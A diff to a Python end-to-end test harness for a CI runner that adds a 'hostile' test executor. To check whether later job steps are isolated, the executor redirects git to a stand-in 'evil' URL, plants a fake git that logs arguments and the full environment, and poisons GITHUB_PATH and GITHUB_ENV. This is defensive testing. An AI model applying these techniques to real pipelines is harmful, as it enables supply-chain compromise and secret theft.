@@ -45,8 +45,10 @@ _STEP_FAILED = re.compile(r"^\[(?P<workflow>[^/\]]+)/(?P<job>[^\]]+)\]   ❌  Fa
 
 EXECUTOR = '''\
 """The e2e executor: writes <task>.txt; dumps its environment; behaviours by task:
-ok (default), fail (always wrong), kill_once (kills its `imm lane` on the first attempt)."""
-import json, os, pathlib, signal, sys
+ok (default), fail (always wrong), kill_once (kills its `imm lane` on the first attempt),
+hostile (also points the checkout's git at another host and writes its step's GITHUB_ENV and
+GITHUB_PATH: a fake git that records how it was called)."""
+import json, os, pathlib, shutil, signal, sys
 
 task, attempt = os.environ["IMM_TASK_ID"], os.environ["IMM_ATTEMPT"]
 spy = pathlib.Path(os.environ["IMM_E2E_SPY"])
@@ -64,6 +66,31 @@ if behaviour == "kill_once" and not (spy / f"killed.{task}").exists():
     (spy / f"killed.{task}").write_text("once")
     os.kill(lane_process(), signal.SIGKILL)  # the lane job dies: no outcome is published
     sys.exit(9)
+if behaviour == "hostile":  # goes for the steps of its job that run after it (ADR 0025)
+    checkout = next(p.parent for p in pathlib.Path.cwd().parents if p.name == ".git")
+    evil = os.environ["IMM_E2E_EVIL"]
+    with (checkout / ".git" / "config").open("a") as config:  # longer than the runner's rule
+        config.write(f'[url "{evil}/"]\\n\\tinsteadOf = https://github.com/acme/\\n')
+    files = dict(
+        line.split("=", 1)
+        for line in pathlib.Path(f"/proc/{lane_process()}/environ").read_text().split("\\0")
+        if line.startswith(("GITHUB_ENV=", "GITHUB_PATH="))
+    )
+    bin_dir = spy / "evil-bin"
+    bin_dir.mkdir(exist_ok=True)
+    fake_git = bin_dir / "git"
+    fake_git.write_text(
+        f"#!{sys.executable}\\nimport json, os, sys, uuid\\n"
+        f"open({str(spy)!r} + f'/fake-git.{{uuid.uuid4()}}.json', 'w').write("
+        "json.dumps({'argv': sys.argv, 'env': dict(os.environ)}))\\n"
+        f"os.execv({shutil.which('git')!r}, ['git', *sys.argv[1:]])\\n"
+    )
+    fake_git.chmod(0o755)
+    with open(files["GITHUB_PATH"], "a") as github_path:
+        github_path.write(f"{bin_dir}\\n")
+    with open(files["GITHUB_ENV"], "a") as github_env:
+        github_env.write(f"GIT_CONFIG_COUNT=1\\nGIT_CONFIG_KEY_0=url.{evil}/.insteadOf\\n"
+                         "GIT_CONFIG_VALUE_0=https://github.com/acme/\\n")
 pathlib.Path(f"{task}.txt").write_text("wrong\\n" if behaviour == "fail" else f"{task}\\n")
 '''
 
@@ -103,6 +130,7 @@ class ActWorld:
     host: GitHttpRemote
     github: FakeGitHub
     behaviour: dict[str, str] = field(default_factory=dict)
+    evil_url: str = "http://127.0.0.1:9"  # where a hostile executor sends git (see test)
     runs: list[ActRun] = field(default_factory=list)
     _dispatches_run: int = 0
 
@@ -113,6 +141,10 @@ class ActWorld:
     @property
     def spy(self) -> Path:
         return self.root / "spy"
+
+    @property
+    def artifacts(self) -> Path:
+        return self.root / "artifacts"
 
     @property
     def bare(self) -> Path:
@@ -211,6 +243,8 @@ class ActWorld:
             IMM_E2E_SPY=str(self.spy),
             IMM_E2E_BEHAVIOUR=json.dumps(self.behaviour),
             STAND_IN_PYTHON=sys.executable,
+            STAND_IN_ARTIFACTS=str(self.artifacts),
+            IMM_E2E_EVIL=self.evil_url,  # the artifact stand-ins' store, by run id
         )
         return env
 
@@ -234,6 +268,9 @@ class ActWorld:
             "--var-file", str(self.root / "empty"), "--input-file", str(self.root / "empty"),
             "--local-repository", f"actions/checkout@v5={STAND_INS / 'checkout'}",
             "--local-repository", f"actions/setup-python@v6={STAND_INS / 'setup-python'}",
+            "--local-repository", f"actions/upload-artifact@v7={STAND_INS / 'upload-artifact'}",
+            "--local-repository",
+            f"actions/download-artifact@v7={STAND_INS / 'download-artifact'}",
         ]  # fmt: skip
         lines: list[str] = []
         jobs: dict[str, str] = {}
